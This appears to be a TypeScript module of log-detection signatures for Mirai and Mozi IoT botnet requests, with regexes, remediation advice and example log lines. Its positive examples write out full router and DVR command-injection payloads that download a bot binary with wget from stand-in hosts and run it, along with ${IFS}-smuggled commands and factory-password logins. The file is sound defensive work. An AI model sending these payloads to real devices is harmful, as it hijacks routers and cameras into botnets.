import type { Signature } from '../types.js';

const SCANNERS = 'scanners-2024 corpus (nginx access.log, Dec 2024)';
const SMALLSITE = 'smallsite-2015-2018 corpus';

const MIRAI_FIX =
  'The sending address is almost always an infected router, camera, DVR or other Internet-of-Things device, not a computer. ' +
  'To clean it: reboot the device (these bots live in memory), change its default password at once, update its firmware or replace it if the vendor no longer supports it, and close remote administration (telnet, TR-064, web admin) to the Internet.';

const BENIGN = [
  { request: 'GET /shop/cart?item=42&qty=1 HTTP/1.1' },
  { request: 'GET /blog/how-to-use-wget-and-curl/ HTTP/1.1', source: 'an article about the tools' },
];

export const iot: Signature[] = [
  {
    id: 'mirai-jaws-shell', family: 'mirai', title: 'JAWS DVR /shell command injection (Mirai/Mozi)',
    description:
      'Web servers of MVPower/JAWS DVRs run any command given after /shell?. Mirai, Mozi and Gafgyt bots send /shell?cd+/tmp;wget+http://.../x;sh+x to download and start themselves on such recorders. ' + MIRAI_FIX,
    references: ['CVE-2016-20016'],
    stage: 'request', stageReason: 'The request carries a shell download command; it is an infection attempt whatever the answer.',
    match: { target: 'url', pattern: '^/shell\\?[^=&]*(?:wget|curl|tftp|busybox|chmod|cd[+ ])', literals: ['/shell?'] },
    examples: {
      positive: [
        { request: 'GET /shell?cd+/tmp;rm+-rf+*;wget+http://192.168.1.1:8088/Mozi.a;chmod+777+Mozi.a;/tmp/Mozi.a+jaws HTTP/1.1', source: 'Netlab 360 Mozi write-up' },
        { request: 'GET /shell?cd%20/tmp;wget%20http://198.51.100.7/jaws;sh%20/tmp/jaws HTTP/1.1' },
      ],
      negative: [{ request: 'GET /shell?theme=dark HTTP/1.1' }, ...BENIGN],
    },
  },
  {
    id: 'mirai-gpon', family: 'mirai', title: 'GPON router diag_Form command injection (Mirai/Mozi)',
    description:
      'Dasan GPON home routers have an authentication bypass (adding ?images/ to a URL) and a command injection in the ping field of /GponForm/diag_Form (CVE-2018-10561/10562). Mirai, Mozi, Hajime and Muhstik bots post to it to infect the routers. ' + MIRAI_FIX,
    references: ['CVE-2018-10561', 'CVE-2018-10562'],
    stage: 'request', stageReason: 'A web server that is not a GPON router never sees this form posted legitimately.',
    match: { target: 'path', pattern: '^/gponform/diag_form', literals: ['gponform/diag_form'] },
    examples: {
      positive: [{ request: 'POST /GponForm/diag_Form?images/ HTTP/1.1', source: 'vpnMentor GPON advisory (2018)' }],
      negative: [{ request: 'GET /forms/diag.html HTTP/1.1' }, ...BENIGN],
    },
  },
  {
    id: 'mirai-boaform', family: 'mirai', title: 'Boa router default-password login (Mirai/Mozi)',
    description:
      'Routers built on the Boa web server (many Realtek-based ISP boxes) log in at /boaform/admin/formLogin. Mirai and Mozi variants post factory passwords to it (username=adminisp&psd=adminisp and similar) to take the router over. ' + MIRAI_FIX,
    references: ['CWE-1392 (use of default credentials)', 'Netlab 360 Mozi report'],
    stage: 'request', stageReason: 'A Boa router login sent to an ordinary web server is a bot guessing factory passwords.',
    match: { target: 'path', pattern: '^/boaform/admin/formlogin', literals: ['boaform/admin/formlogin'] },
    examples: {
      positive: [
        { request: 'POST /boaform/admin/formLogin HTTP/1.1' },
        { request: 'GET /boaform/admin/formLogin?username=adminisp&psd=adminisp HTTP/1.1', source: 'Mozi/Mirai honeypot reports' },
      ],
      negative: [{ request: 'GET /admin/login HTTP/1.1' }, ...BENIGN],
    },
  },
  {
    id: 'mozi-netgear-syscmd', family: 'mirai', title: 'Netgear setup.cgi syscmd injection (Mozi)',
    description:
      'Old Netgear routers (DGN1000/DGN2200) run the command given to /setup.cgi?todo=syscmd&cmd=... without a password. The Mozi botnet sends cmd=rm+-rf+/tmp/*;wget+http://.../Mozi.m+-O+/tmp/netgear;sh+netgear to infect them. ' + MIRAI_FIX,
    references: ['EDB-ID 25978', 'Netlab 360 Mozi report'],
    stage: 'request', stageReason: 'The request carries a command to run; it is an infection attempt whatever the answer.',
    match: { target: 'url', pattern: 'setup\\.cgi\\?[^#]{0,300}todo=syscmd', literals: ['todo=syscmd'] },
    examples: {
      positive: [{ request: 'GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://192.168.1.1:8088/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1 HTTP/1.0', source: SCANNERS }],
      negative: [{ request: 'GET /setup.cgi?next_file=index.htm HTTP/1.1' }, ...BENIGN],
    },
  },
  {
    id: 'iot-ifs-injection', family: 'mirai', title: 'Shell command injection using ${IFS} (IoT bots)',
    description:
      '${IFS} is the shell\'s field separator; IoT bots (Mozi, Mirai and Gafgyt variants) write it instead of spaces so that a command such as cd${IFS}/tmp;wget${IFS}http://... survives inside a URL or form field of a router or camera. ' + MIRAI_FIX,
    references: ['OWASP CRS 932200'],
    stage: 'request', stageReason: '${IFS} has no use in a URL except to smuggle a shell command.',
    match: { target: 'line', pattern: '\\$\\{ifs\\}|\\$ifs\\$[0-9]', literals: ['${ifs}', '$ifs$'] },
    examples: {
      positive: [
        { request: "27%0A/bin/sh${IFS}-c${IFS}'cd${IFS}/tmp;${IFS}rm${IFS}-rf${IFS}Mozi.7;${IFS}busybox${IFS}wget${IFS}http://%s:%d/Mozi.7;${IFS}chmod${IFS}777${IFS}Mozi.7;${IFS}./Mozi.7'%0A%27&loginUser=a&loginPwd=a HTTP/1.0", source: SCANNERS },
        { request: 'GET /cgi-bin/kerbynet?Section=NoAuthREQ&Action=x509List&type=*%22;cd%24%7BIFS%7D/tmp;wget%24%7BIFS%7Dhttp://198.51.100.7/z;sh%24%7BIFS%7Dz;%22 HTTP/1.1' },
      ],
      negative: [{ request: 'GET /docs/bash/ifs-variable.html HTTP/1.1' }, ...BENIGN],
    },
  },
  {
    id: 'tplink-luci-locale', family: 'mirai', title: 'TP-Link Archer locale command injection (Mirai)',
    description:
      'TP-Link Archer AX21 routers run a command placed in the country field of /cgi-bin/luci/;stok=/locale?form=country (CVE-2023-1389). Mirai variants use it since 2023 to infect the routers. ' + MIRAI_FIX,
    references: ['CVE-2023-1389', 'ZDI-23-451'],
    stage: 'request', stageReason: 'The request writes a shell command into the router settings; it is an attack whatever the answer.',
    match: { target: 'url', pattern: ';stok=/locale\\?form=country&operation=write', literals: ['stok=/locale'] },
    examples: {
      positive: [{ request: 'GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60cd+/tmp;+wget+http://198.51.100.7/tshit.sh;chmod+777+tshit.sh;./tshit.sh%60) HTTP/1.1', source: 'ZDI-23-451 write-up shape' }],
      negative: [{ request: 'GET /docs/luci-admin-guide.html HTTP/1.1' }, ...BENIGN],
    },
  },
  {
    id: 'router-admin-probe', family: 'mirai', title: 'Router admin interface probe (HNAP1, LuCI, tmUnblock.cgi)',
    description:
      'Requests for router administration pages: /HNAP1/ (D-Link and Linksys Home Network Administration Protocol, attacked by TheMoon and Mirai variants), /tmUnblock.cgi (the Linksys hole used by TheMoon worm) and /cgi-bin/luci (OpenWrt/TP-Link web admin). ' +
      'On an ordinary web server these pages do not exist, so a request for them is a bot looking for routers to infect. ' + MIRAI_FIX,
    references: ['CVE-2015-2051', 'SANS ISC TheMoon (2014)', 'CrowdSec crowdsecurity/http-probing'],
    stage: '404', stageReason: 'On a real router these pages exist and are used legitimately; only a miss is a probe.',
    match: { target: 'path', pattern: '^/(?:hnap1|tmunblock\\.cgi|cgi-bin/luci)(?:$|/)', literals: ['hnap1', 'tmunblock.cgi', 'cgi-bin/luci'] },
    examples: {
      positive: [
        { request: 'GET /HNAP1/ HTTP/1.1', source: SMALLSITE },
        { request: 'GET /HNAP1 HTTP/1.1', source: SCANNERS },
        { request: 'GET /tmUnblock.cgi HTTP/1.1', source: SMALLSITE },
        { request: 'GET /cgi-bin/luci HTTP/1.1' },
      ],
      negative: [{ request: 'GET /docs/hnap1-protocol.pdf HTTP/1.1' }, ...BENIGN],
    },
  },
  {
    id: 'router-setup-cgi-probe', family: 'mirai', title: 'Router setup.cgi probe (Mozi, Netgear DGN)',
    description:
      'A bare request for setup.cgi, the Netgear DGN administration page that Mozi and other IoT bots inject shell commands into (setup.cgi?todo=syscmd&cmd=...). ' +
      'Bots and scanners first ask whether the page exists; on an ordinary web server it does not, so the request is a bot looking for routers to infect. ' + MIRAI_FIX,
    references: ['EDB-ID 25978 (Netgear DGN setup.cgi command execution)', 'Netlab 360: Mozi (2019)', 'CrowdSec crowdsecurity/http-cve-probing'],
    stage: '404', stageReason: 'On a real Netgear router the page exists and is used legitimately; only a miss is a probe.',
    match: { target: 'url', pattern: '/setup\\.cgi$', literals: ['setup.cgi'] },
    examples: {
      positive: [
        { request: 'GET /setup.cgi HTTP/1.1', source: 'CrowdSec hub test log (http-cve-probing)' },
        { request: 'GET /cgi-bin/admin/setup.cgi HTTP/1.0', source: 'honeynet-2004 corpus (Nikto)' },
      ],
      negative: [{ request: 'GET /setup.cgi?next_file=index.htm HTTP/1.1', source: 'a Netgear admin page load' }, { request: 'GET /docs/setup.cgi.html HTTP/1.1' }, ...BENIGN],
    },
  },
];

/** Broad download-and-run pattern: after every specific signature, so those name the attack. */
export const iotGeneric: Signature[] = [
  {
    id: 'iot-download-exec', family: 'mirai', title: 'Download-and-run shell command in a URL (IoT bots)',
    description:
      'A URL that carries a chained shell command (;wget http://..., ;cd /tmp, |busybox, $(curl ...)) as IoT botnets send to routers, cameras and NAS boxes with command-injection holes, so that the device downloads and starts the bot. ' + MIRAI_FIX,
    references: ['OWASP CRS 932100', 'OWASP CRS 932150'],
    stage: 'request', stageReason: 'A separator followed by a download or shell command is an injection attempt whatever the answer.',
    match: {
      target: 'url',
      pattern: '(?:[;|&`]|\\$\\()[+ ]*(?:cd[+ ]+/(?:tmp|var)|wget[+ ]|curl[+ ]|tftp[+ ]|busybox[+ ]|chmod[+ ]+[0-7]{3}|rm[+ ]+-rf)',
      literals: ['wget', 'curl', 'tftp', 'busybox', 'chmod', '/tmp', '/var', '-rf'],
    },
    examples: {
      positive: [
        { request: 'GET /board.cgi?cmd=cd+/tmp;rm+-rf+*;wget+http://198.51.100.7/bins/mirai.arm7;chmod+777+mirai.arm7;./mirai.arm7 HTTP/1.1', source: 'Vacron NVR exploit as sent by Mirai' },
        { request: 'GET /cgi-bin/supervisor/CloudSetup.cgi?exefile=wget%20-O%20/tmp/Mozi.m%20http://198.51.100.7:8088/Mozi.m;chmod%20777%20/tmp/Mozi.m;/tmp/Mozi.m HTTP/1.0', source: 'AVTECH exploit as sent by Mozi (Netlab 360)' },
      ],
      negative: [{ request: 'GET /download?file=wget-1.21.tar.gz&mirror=/var/www HTTP/1.1' }, ...BENIGN],
    },
  },
];
